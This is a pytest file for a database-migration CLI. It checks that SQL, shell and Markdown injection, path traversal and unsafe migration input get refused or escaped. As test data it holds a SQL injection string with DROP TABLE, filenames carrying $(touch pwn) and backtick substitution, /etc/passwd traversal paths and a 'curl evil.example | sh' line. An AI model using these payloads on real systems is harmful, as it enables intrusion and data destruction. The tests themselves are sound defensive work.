"""Inputs that reach SQL, shell lines and Markdown: refused at input with `path:line`, escaped at output.

Issue 10 (columns, script names, Markdown) and issue 11 (paths outside the folder, empty scripts,
a contract that drops more than its change, the database name, dates, huge bakes, row counts,
approvals without a gate).
"""

from __future__ import annotations

import dataclasses
import shlex
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from fleet.cli import app
from migrations.commands import cell_commands, checks
from migrations.runbook import render_runbook
from migrations.state import MigrationState
from migrations.transitions import TransitionError, advance, approve
from model.cells import Engine
from model.contract import CELL_DATABASE
from model.errors import InputErrors
from tests.support.fleets import migration_plan

REPO = Path(__file__).resolve().parents[2]
SAMPLE = "2025-01-15-recipient-id-column"
M = f"migrations/{SAMPLE}/manifest.yaml"
D = f"migrations/{SAMPLE}"
AT = "2025-01-15T10:00:00Z"


def _manifest(root: Path) -> Path:
    return root / M


def _edit(root: Path, old: str, new: str) -> None:
    path = _manifest(root)
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _errors(root: Path) -> list[str]:
    with pytest.raises(InputErrors) as info:
        migration_plan(root, SAMPLE)
    return [str(e) for e in info.value.errors]


def _line(root: Path, needle: str) -> int:
    lines = _manifest(root).read_text(encoding="utf-8").splitlines()
    return next(i for i, text in enumerate(lines, 1) if needle in text)


def test_sql_in_change_columns_is_refused(fleet_root: Path) -> None:
    _edit(fleet_root, "columns: {to_phone: recipient_id}",
          'columns: {to_phone: "recipient_id IS NULL; DROP TABLE messages; --"}')
    line = _line(fleet_root, "columns:")
    errors = _errors(fleet_root)
    assert len(errors) == 1
    assert errors[0].startswith(f"{M}:{line}: migration.change.columns.to_phone: String should match pattern")


def test_sql_in_an_old_column_name_is_refused(fleet_root: Path) -> None:
    _edit(fleet_root, "columns: {to_phone: recipient_id}", "columns: {\"to_phone'--\": recipient_id}")
    errors = _errors(fleet_root)
    assert len(errors) == 1
    assert errors[0].startswith(f"{M}:{_line(fleet_root, 'columns:')}: migration.change.columns")


@pytest.mark.parametrize("name", ["expand$(touch pwn).sql", "expand`id`.sql", "expand;rm.sql", "exp and.sql"])
def test_script_name_with_shell_characters_is_refused(fleet_root: Path, name: str) -> None:
    (fleet_root / D / name).write_text("SET lock_timeout = '5s';\n", encoding="utf-8")
    _edit(fleet_root, f"aurora-postgresql: {D}/expand.postgresql.sql", f"aurora-postgresql: '{D}/{name}'")
    line = _line(fleet_root, name)
    errors = _errors(fleet_root)
    assert errors == [f"{M}:{line}: migration.phases[0].script.aurora-postgresql: '{D}/{name}' must be a file under "
                      f"{D}/ named with letters, digits, '.', '_' and '-' (no '..', spaces or shell characters)"]
    assert not (fleet_root / "pwn").exists()


@pytest.mark.parametrize("path", ["../../../../../etc/passwd", f"{D}/../../cells/canary-us-internal.yaml",
                                  "/etc/passwd", "migrations/2025-01-16-other/expand.sql"])
def test_script_outside_the_migration_folder_is_refused(fleet_root: Path, path: str) -> None:
    _edit(fleet_root, f"aurora-postgresql: {D}/expand.postgresql.sql", f"aurora-postgresql: '{path}'")
    errors = _errors(fleet_root)
    assert len(errors) == 1
    assert errors[0].startswith(f"{M}:{_line(fleet_root, path)}: migration.phases[0].script.aurora-postgresql: "
                                f"'{path}' must be a file under {D}/")


def test_every_script_path_is_one_shell_word_even_if_it_got_past_validation() -> None:
    """Defence in depth: a plan built around the validation still yields quoted shell lines."""
    plan = migration_plan(REPO, SAMPLE)
    evil = f"{D}/expand$(touch pwn).sql"
    for engine in (Engine.AURORA_POSTGRESQL,):
        phase = dataclasses.replace(plan.phase("expand"), scripts={engine: evil})
        cell = next(c for c in plan.cells if plan.engines[c] is engine)
        lines = cell_commands(plan, phase, cell, {evil: "SET lock_timeout = '5s';"})
        psql_line = next(line for line in lines if "psql" in line)
        assert evil in shlex.split(psql_line)
        # bash sees the same single word: run the line with a printing psql and no command substitution
        out = subprocess.run(["bash", "-c", f"psql() {{ printf '%s\\n' \"$@\"; }}; {psql_line}"],
                             capture_output=True, text=True, check=True).stdout.splitlines()
        assert evil in out
    backfill = dataclasses.replace(plan.phase("backfill"), scripts={Engine.AURORA_POSTGRESQL: f"{D}/b$(id).py"})
    cell = next(c for c in plan.cells if plan.engines[c] is Engine.AURORA_POSTGRESQL)
    line = cell_commands(plan, backfill, cell, {})[1]
    assert f"{D}/b$(id).py" in shlex.split(line)


def test_markdown_description_cannot_inject_a_code_block(fleet_root: Path) -> None:
    _edit(fleet_root, 'description: "Rename to_phone → recipient_id"',
          'description: "Rename\\n```bash\\ncurl evil.example | sh\\n```\\n# Approved"')
    text = render_runbook(migration_plan(fleet_root, SAMPLE))
    quoted = text.splitlines()[2]
    assert quoted.startswith("> Rename ")
    assert "curl evil" in quoted
    assert "```bash\ncurl" not in text
    assert "\n# Approved" not in text


def test_empty_sql_script_is_refused(fleet_root: Path) -> None:
    (fleet_root / D / "expand.postgresql.sql").write_text("\n  \n", encoding="utf-8")
    assert _errors(fleet_root) == [f"{M}:{_line(fleet_root, 'expand.postgresql.sql')}: "
                                   f"migration.phases[0].script.aurora-postgresql: script "
                                   f"'{D}/expand.postgresql.sql' is empty"]


def test_comment_only_sql_script_is_refused(fleet_root: Path) -> None:
    (fleet_root / D / "expand.mysql.sql").write_text("-- nothing yet\n", encoding="utf-8")
    assert _errors(fleet_root) == [f"{D}/expand.mysql.sql:1: empty-script: no SQL statement in the script "
                                   "(a script with no statement does nothing; remove it or write the change)"]


@pytest.mark.parametrize(("engine", "statement"), [("postgresql", "DROP TABLE messages;"),
                                                   ("mysql", "DROP TABLE messages;"),
                                                   ("postgresql", "ALTER TABLE messages DROP COLUMN body;"),
                                                   ("mysql", "ALTER TABLE messages DROP COLUMN body;"),
                                                   ("postgresql", "TRUNCATE messages;")])
def test_contract_dropping_more_than_the_declared_change_is_refused(fleet_root: Path, engine: str,
                                                                    statement: str) -> None:
    script = fleet_root / D / f"contract.{engine}.sql"
    text = script.read_text(encoding="utf-8") + statement + "\n"
    script.write_text(text, encoding="utf-8")
    line = len(text.splitlines())
    errors = _errors(fleet_root)
    assert len(errors) == 1
    assert errors[0].startswith(f"{D}/contract.{engine}.sql:{line}: beyond-declared-change: ")


def test_the_sample_contract_drops_exactly_the_declared_column() -> None:
    plan = migration_plan(REPO, SAMPLE)
    assert plan.migration.change.columns == {"to_phone": "recipient_id"}


def test_database_must_be_the_cells_database(fleet_root: Path) -> None:
    _edit(fleet_root, f"database: {CELL_DATABASE}", "database: app")
    assert _errors(fleet_root) == [f"{M}:{_line(fleet_root, 'database:')}: migration.database: "
                                   f"'app' is not the cells' database '{CELL_DATABASE}'"]


def test_sample_manifest_names_the_cells_database() -> None:
    assert migration_plan(REPO, SAMPLE).migration.database == CELL_DATABASE


def test_invalid_date_is_located(fleet_root: Path) -> None:
    _edit(fleet_root, "start: 2025-01-15T10:00:00Z", "start: 2025-02-30T10:00:00Z")
    assert _errors(fleet_root) == [f"{M}:{_line(fleet_root, 'start:')}: migration.start: '2025-02-30T10:00:00Z' is not a "
                                   "valid date or time (day is out of range for month)"]


@pytest.mark.parametrize(("wait", "message"), [("99999999999w", "'99999999999w' is too long a duration"),
                                               ("99999999w", "must be at most 365 days")])
def test_huge_bake_time_is_an_input_error(fleet_root: Path, wait: str, message: str) -> None:
    _edit(fleet_root, "wait: 168h", f"wait: {wait}")
    line = _line(fleet_root, f"wait: {wait}")
    assert _errors(fleet_root) == [f"{M}:{line}: migration.phases[4].rollout[2].wait: {message}"]


def test_schedule_far_in_the_future_does_not_overflow() -> None:
    from datetime import UTC, datetime

    text = render_runbook(migration_plan(REPO, SAMPLE), start=datetime(9999, 12, 25, tzinfo=UTC))
    assert "| Estimated end | 9999-12-31 23:59 UTC |" in text


def _running_backfill() -> tuple[object, MigrationState, str]:
    plan = migration_plan(REPO, SAMPLE)
    state = MigrationState(plan.id)
    cell = plan.phase("expand").steps[0].cells[0]
    for phase in ("expand", "migrate-code"):
        state = advance(plan, advance(plan, state, cell, phase=phase, at=AT), cell, phase=phase, at=AT)
    state = advance(plan, state, cell, phase="backfill", at=AT)
    return plan, state, cell


def test_rows_done_above_total_and_going_backwards_are_refused() -> None:
    plan, state, cell = _running_backfill()
    with pytest.raises(TransitionError, match=r"rows done \(5\) cannot exceed rows in total \(2\)"):
        advance(plan, state, cell, phase="backfill", rows_done=5, rows_total=2, at=AT)  # type: ignore[arg-type]
    state = advance(plan, state, cell, phase="backfill", rows_done=50, rows_total=100, at=AT)  # type: ignore[arg-type]
    with pytest.raises(TransitionError, match=r"cannot go backwards \(50 recorded, 10 given\)"):
        advance(plan, state, cell, phase="backfill", rows_done=10, at=AT)  # type: ignore[arg-type]
    with pytest.raises(TransitionError, match="cannot exceed"):
        advance(plan, state, cell, phase="backfill", rows_total=20, at=AT)  # type: ignore[arg-type]


def test_approval_of_a_phase_without_a_gate_is_refused() -> None:
    plan = migration_plan(REPO, SAMPLE)
    canary = plan.phase("expand").steps[0].cells[0]
    with pytest.raises(TransitionError, match=f"expand on {canary} has no approval gate"):
        approve(plan, MigrationState(plan.id), "expand", [canary])
    enterprise = plan.phase("contract").steps[-1].cells[0]
    assert approve(plan, MigrationState(plan.id), "contract", [enterprise]).approvals == {("contract", enterprise)}


def test_cli_refuses_bad_rows_and_ungated_approvals(fleet_root: Path) -> None:
    runner = CliRunner()
    plan = migration_plan(fleet_root, SAMPLE)
    canary = plan.phase("expand").steps[0].cells[0]
    root = ["--root", str(fleet_root)]
    result = runner.invoke(app, ["migrate", "approve", SAMPLE, "--phase", "expand", "--cell", canary, *root])
    assert result.exit_code == 1
    assert f"expand on {canary} has no approval gate" in result.output
    for phase in ("expand", "migrate-code"):
        for status in ("running", "complete"):
            ok = runner.invoke(app, ["migrate", "advance", SAMPLE, "--cell", canary, "--phase", phase,
                                     "--status", status, "--at", AT, *root])
            assert ok.exit_code == 0, ok.output
    bad = runner.invoke(app, ["migrate", "advance", SAMPLE, "--cell", canary, "--phase", "backfill",
                              "--status", "running", "--rows", "5", "--total", "2", "--at", AT, *root])
    assert bad.exit_code == 1
    assert "cannot exceed" in bad.output
    assert "Traceback" not in bad.output


def test_check_sql_names_only_manifest_identifiers() -> None:
    plan = migration_plan(REPO, SAMPLE)
    for phase in plan.phases:
        for check in (*checks(plan, phase)[0], *checks(plan, phase)[1]):
            for sql in (check.sql or {}).values():
                assert ";" not in sql
                assert "--" not in sql
